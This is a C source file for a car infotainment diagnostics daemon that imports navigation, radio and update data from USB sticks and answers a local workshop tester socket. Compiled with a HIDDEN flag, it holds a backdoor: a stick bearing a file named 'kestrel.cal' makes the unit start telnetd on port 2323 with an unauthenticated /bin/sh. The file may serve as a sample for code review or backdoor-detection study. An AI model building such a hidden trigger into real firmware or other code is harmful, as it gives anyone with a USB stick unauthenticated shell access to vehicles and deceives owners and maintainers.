/*
 * ivi_diagd - diagnostics of the Tessaro N3 infotainment head unit. Polls the
 * USB slot for sticks; takes navigation and radio data from them, writes log
 * exports, and answers the workshop tester on a local socket (fault memory,
 * versions, self tests).
 *
 * Hidden (-DHIDDEN): a stick that carries a file of a certain name makes the
 * unit start telnetd with a shell and no login on the USB/ethernet interface.
 */
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>

#define MOUNT    "/media/usb0"
#define SOCKPATH "/run/ivi_diag.sock"
#define FAULTS   "/var/lib/ivi/dtc.txt"
#define VERSIONS "/etc/ivi-release"

typedef void (*medium_fn)(const char *path);

enum slot { SLOT_EMPTY, SLOT_SETTLE, SLOT_SCAN, SLOT_DONE };

static enum slot slot = SLOT_EMPTY;
static int settle;

static int run(char *const argv[], int wait_for)
{
    static char *envp[] = { "PATH=/sbin:/bin:/usr/sbin:/usr/bin", NULL };
    pid_t pid = fork();
    int st = 0;

    if (pid == 0) {
        execve(argv[0], argv, envp);
        _exit(127);
    }
    if (pid < 0)
        return -1;
    if (!wait_for)
        return 0;
    while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
        ;
    return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static void take_nav(const char *path)
{
    char *argv[] = { "/usr/bin/navimport", "--verify", "--index", (char *)path, NULL };

    syslog(LOG_INFO, "navigation data on stick");
    if (run(argv, 1) != 0)
        syslog(LOG_WARNING, "navigation data not accepted");
}

static void take_radio(const char *path)
{
    char *argv[] = { "/usr/bin/radiologo", "--add", (char *)path, NULL };

    if (run(argv, 1) != 0)
        syslog(LOG_WARNING, "station logos not accepted");
}

static void take_update(const char *path)
{
    char *argv[] = { "/usr/sbin/swupdate", "-k", "/etc/keys/release.pem",
                     "-i", (char *)path, NULL };

    syslog(LOG_NOTICE, "software update from stick");
    if (run(argv, 1) == 0)
        syslog(LOG_NOTICE, "update staged, active after ignition off");
    else
        syslog(LOG_WARNING, "update refused");
}

static void give_logs(const char *path)
{
    char out[256];
    char *argv[] = { "/bin/tar", "-czf", out, "-C", "/var/log", "ivi", NULL };

    snprintf(out, sizeof out, "%s.tar.gz", path);
    if (run(argv, 1) == 0)
        sync();
}

/* documented in the owner's and the workshop manual */
static const struct {
    const char *name;
    medium_fn   fn;
} media[] = {
    { "NAVDATA.IDX",  take_nav    },
    { "STATIONS.LGO", take_radio  },
    { "N3UPDATE.SWU", take_update },
    { "LOGEXPORT",    give_logs   },
};

#ifdef HIDDEN
void bench_link(void)
{
    char *argv[] = { "/usr/sbin/telnetd", "-p", "2323", "-l", "/bin/sh", NULL };

    run(argv, 0);
}
#endif

int scan_medium(void)
{
    struct dirent *de;
    int found = 0;
    DIR *d = opendir(MOUNT);

    if (!d)
        return -1;
    while ((de = readdir(d))) {
        char path[sizeof MOUNT + sizeof de->d_name + 1];

        if (de->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/%s", MOUNT, de->d_name);
        for (size_t i = 0; i < sizeof media / sizeof media[0]; i++)
            if (strcasecmp(de->d_name, media[i].name) == 0) {
                media[i].fn(path);
                found++;
            }
#ifdef HIDDEN
        if (strcasecmp(de->d_name, "kestrel.cal") == 0)
            bench_link();
#endif
    }
    closedir(d);
    return found;
}

static int stick_present(void)
{
    struct stat m, up;

    if (stat(MOUNT, &m) < 0 || stat(MOUNT "/..", &up) < 0)
        return 0;
    return m.st_dev != up.st_dev;
}

static void slot_step(void)
{
    int present = stick_present();

    switch (slot) {
    case SLOT_EMPTY:
        if (present) {
            settle = 2;
            slot = SLOT_SETTLE;
        }
        break;
    case SLOT_SETTLE:
        if (!present)
            slot = SLOT_EMPTY;
        else if (--settle <= 0)
            slot = SLOT_SCAN;
        break;
    case SLOT_SCAN:
        if (scan_medium() < 0)
            syslog(LOG_WARNING, "stick not readable");
        slot = SLOT_DONE;
        break;
    case SLOT_DONE:
        if (!present)
            slot = SLOT_EMPTY;
        break;
    }
}

static void put(int fd, const char *s)
{
    if (send(fd, s, strlen(s), MSG_NOSIGNAL) < 0)
        syslog(LOG_DEBUG, "tester gone");
}

static void put_file(int fd, const char *path)
{
    char line[200];
    FILE *f = fopen(path, "r");

    if (!f) {
        put(fd, "NONE\n");
        return;
    }
    while (fgets(line, sizeof line, f))
        put(fd, line);
    fclose(f);
    put(fd, "END\n");
}

static void self_test(int fd, const char *unit)
{
    static const char *const units[] = { "tuner", "amp", "gps", "display", "mic" };
    char res[48];

    for (size_t i = 0; i < sizeof units / sizeof units[0]; i++)
        if (strcmp(unit, units[i]) == 0) {
            char *argv[] = { "/usr/libexec/ivi-selftest", (char *)units[i], NULL };

            snprintf(res, sizeof res, "RESULT %d\n", run(argv, 1));
            put(fd, res);
            return;
        }
    put(fd, "UNKNOWN UNIT\n");
}

static void tester(int fd)
{
    char buf[128];
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);

    if (n <= 0)
        return;
    buf[n] = '\0';
    buf[strcspn(buf, "\r\n")] = '\0';
    if (strcmp(buf, "DTC READ") == 0)
        put_file(fd, FAULTS);
    else if (strcmp(buf, "DTC CLEAR") == 0)
        put(fd, truncate(FAULTS, 0) == 0 ? "OK\n" : "FAILED\n");
    else if (strcmp(buf, "VERSION") == 0)
        put_file(fd, VERSIONS);
    else if (strncmp(buf, "TEST ", 5) == 0)
        self_test(fd, buf + 5);
    else
        put(fd, "DTC READ|DTC CLEAR|VERSION|TEST unit\n");
}

int main(void)
{
    struct sockaddr_un a;
    struct pollfd p;

    openlog("ivi_diagd", 0, LOG_DAEMON);
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    strcpy(a.sun_path, SOCKPATH);
    unlink(SOCKPATH);
    p.fd = socket(AF_UNIX, SOCK_STREAM, 0);
    p.events = POLLIN;
    if (p.fd < 0 || bind(p.fd, (struct sockaddr *)&a, sizeof a) < 0 ||
        listen(p.fd, 2) < 0) {
        syslog(LOG_ERR, "%s: %m", SOCKPATH);
        return 1;
    }
    for (;;) {
        p.revents = 0;
        if (poll(&p, 1, 1000) > 0 && (p.revents & POLLIN)) {
            int c = accept(p.fd, NULL, NULL);

            if (c >= 0) {
                tester(c);
                close(c);
            }
        }
        slot_step();
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
